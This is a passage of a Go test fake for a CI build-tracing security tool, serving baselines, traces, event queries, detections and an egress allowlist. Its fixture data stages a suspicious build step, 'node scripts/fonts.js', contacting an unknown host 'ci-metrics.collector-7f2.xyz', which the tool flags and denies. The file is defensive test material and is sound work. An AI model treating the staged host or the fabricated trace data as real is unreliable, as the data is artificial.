			Explanation: "In its earlier runs this job did not talk to the host. Most attacks on builds were first seen in this way.", Remedy: "If you changed the workflow or its tools, accept the host.", Step: "Run tests", Process: "node scripts/fonts.js", PID: 2210 + i, Subject: what, Fact: "host:" + what, Seq: []uint64{12}, Count: 1 + i, At: j.StartedAt.Add(time.Minute)})
	}
	t.Findings = map[muster.Severity]int{muster.SeverityMedium: 2}
	f.tr.views[t.ID].Judge(view.Known{Findings: map[string]int{"medium": 2}})
}

func (f *fake) Baselines(_ context.Context, text, after string, limit int) (out []web.Baseline, err error) {
	unlock, err := f.lock()
	defer unlock()
	for _, name := range slices.Sorted(maps.Keys(f.tr.baselines)) {
		if strings.Contains(strings.ToLower(name), strings.ToLower(text)) && name > after && len(out) < limit {
			out = append(out, f.tr.baseline(name))
		}
	}
	return out, err
}

func (f *fake) Baseline(_ context.Context, name string) (web.Baseline, error) {
	unlock, err := f.lock()
	defer unlock()
	if err == nil && f.tr.baselines[name] == nil {
		err = muster.Errorf(muster.CodeNotFound, "there is no baseline %q", name)
	}
	if err != nil {
		return web.Baseline{}, err
	}
	return f.tr.baseline(name), nil
}

// baseline is a copy, as a store's would be.
func (f fakeTraces) baseline(name string) web.Baseline {
	doc, err := f.baselines[name].Encode()
	if err != nil {
		panic(err)
	}
	b, err := detect.ParseBaseline(doc)
	if err != nil {
		panic(err)
	}
	return web.Baseline{Name: name, Version: 12, Baseline: b}
}

func (f *fake) allowlist(t *muster.Trace) {
	f.tr.allow = web.Allowlist{
		Policy: trace.Egress{Mode: trace.EgressLearn, Allow: []string{"registry.npmjs.org:443", "nodejs.org:443"}}, Traces: 214, Since: fakeNow.AddDate(0, 0, -14), Stable: 61,
		Present: []web.AllowEntry{{EgressProposal: trace.EgressProposal{Entry: "registry.npmjs.org:443", Count: 88_168, Last: fakeNow.Add(-hours(.1))}, Jobs: 214, Programs: []string{"npm"}}, {EgressProposal: trace.EgressProposal{Entry: "nodejs.org:443"}}},
		Proposed: proposals([]trace.EgressProposal{
			{Entry: "fonts.googleapis.com:443", Count: 212, First: fakeNow.Add(-hours(300)), Last: fakeNow.Add(-hours(1))},
			{Entry: "*.blob.core.windows.net:443", Count: 118, Hosts: []string{"productionresultssa3.blob.core.windows.net", "productionresultssa7.blob.core.windows.net"}, First: fakeNow.Add(-hours(300)), Last: fakeNow.Add(-hours(2))},
			{Entry: "ci-metrics.collector-7f2.xyz:443", Count: 3, First: t.StartedAt, Last: t.StartedAt, Warning: "only one job reached it, and rules found something in that job"},
		}),
		Refused: []web.RefusedHost{{Host: "ci-metrics.collector-7f2.xyz", Port: 443, Protocol: "tcp", Denied: true, Jobs: 1, Count: 3, Last: t.StartedAt.Add(3 * time.Minute), Trace: *t}, {Host: "fonts.googleapis.com", Port: 443, Protocol: "tcp", Jobs: 212, Count: 424, Last: fakeNow.Add(-hours(1)), Trace: *t}},
	}
}

func (f *fake) Traces(_ context.Context, q web.TraceQuery) ([]muster.Trace, error) {
	unlock, err := f.lock()
	defer unlock()
	var out []muster.Trace
	for _, t := range f.tr.traces {
		if (q.Job.ID == 0 || t.Job.ID == q.Job.ID && (q.Job.Attempt == 0 || t.Job.Attempt == q.Job.Attempt)) && (q.Runner == "" || t.ID.Runner == q.Runner) && (q.RunID == 0 || t.RunID == q.RunID) && (q.Baseline == "" || t.Baseline() == q.Baseline) && (len(q.States) == 0 || slices.Contains(q.States, t.State)) && len(out) < q.Limit {
			out = append(out, *t)
		}
	}
	return out, err
}

func (f *fake) Views(_ context.Context, id muster.TraceID) (*view.Views, error) {
	unlock, err := f.lock()
	defer unlock()
	if err != nil {
		return nil, err
	}
	for _, t := range f.tr.traces {
		if t.ID == id && !t.DeletedAt.IsZero() {
			return nil, muster.Errorf(muster.CodeGone, "its events were deleted")
		}
	}
	if v := f.tr.views[id]; v != nil {
		return v, nil
	}
	return nil, muster.Errorf(muster.CodeNotFound, "nothing of the trace is there")
}

func (f *fake) TraceDiff(_ context.Context, id, against muster.TraceID) (web.TraceDiff, error) {
	unlock, err := f.lock()
	defer unlock()
	if err != nil {
		return web.TraceDiff{}, err
	}
	d, ok := f.tr.diff[id]
	if !ok {
		return d, muster.Errorf(muster.CodeNotFound, "this is the first run of the job that was recorded")
	}
	return d, nil
}

func (f *fake) TraceEvents(_ context.Context, q web.EventQuery) (web.EventAnswer, error) {
	unlock, err := f.lock()
	defer unlock()
	if err != nil {
		return web.EventAnswer{}, err
	}
	f.tr.asked = append(f.tr.asked, q)
	wanted, err := query.Compile(q.Expr)
	if err != nil {
		return web.EventAnswer{}, &muster.Error{Code: muster.CodeInvalid, Message: err.Error(), Err: err}
	}
	a := web.EventAnswer{Took: 84 * time.Millisecond}
	for _, t := range f.tr.traces {
		if q.Trace != (muster.TraceID{}) && t.ID != q.Trace || len(f.tr.events[t.ID]) == 0 {
			continue
		}
		a.Traces++
		for _, e := range f.tr.events[t.ID] {
			a.Scanned++
			if ok, err := wanted.Match(e); err != nil || !ok {
				continue
			}
			if len(a.Rows) == q.Limit {
				a.More = true
				return a, nil
			}
			a.Rows = append(a.Rows, web.EventRow{Event: e, Trace: *t})
		}
	}
	return a, nil
}

func (f *fake) Detections(_ context.Context, q web.DetectionQuery) ([]web.DetectionRow, error) {
	unlock, err := f.lock()
	defer unlock()
	var out []web.DetectionRow
	for _, d := range f.tr.detections {
		var of muster.Trace
		for _, t := range f.tr.traces {
			if t.ID == d.Trace {
				of = *t
			}
		}
		if (q.Trace == muster.TraceID{} || d.Trace == q.Trace) && (q.Rule == "" || d.Rule == q.Rule) && (q.Repository == "" || strings.EqualFold(of.Repository, q.Repository)) && (q.Before.IsZero() || d.At.Before(q.Before)) &&
			slices.Index(muster.Severities, d.Severity) >= slices.Index(muster.Severities, q.Severity) && len(out) < q.Limit {
			row := web.DetectionRow{Detection: d, Of: of}
			if fact, err := detect.ParseFact(d.Fact); err == nil && f.tr.baselines[of.Baseline()] != nil {
				seen, _ := f.tr.baselines[of.Baseline()].Seen(fact)
				row.Accepted = seen.Accepted
			}
			out = append(out, row)
		}
	}
	slices.SortStableFunc(out, func(a, b web.DetectionRow) int { return b.At.Compare(a.At) })
	return out, err
}

func (f *fake) Allowlist(context.Context, string) (web.Allowlist, error) {
	unlock, err := f.lock()
	defer unlock()
	return f.tr.allow, err
}

func proposals(all []trace.EgressProposal) (out []web.AllowEntry) {
	for _, p := range all {
		out = append(out, web.AllowEntry{EgressProposal: p, Jobs: int(min(p.Count, 214)), Programs: []string{"node"}})
	}
	return out
}
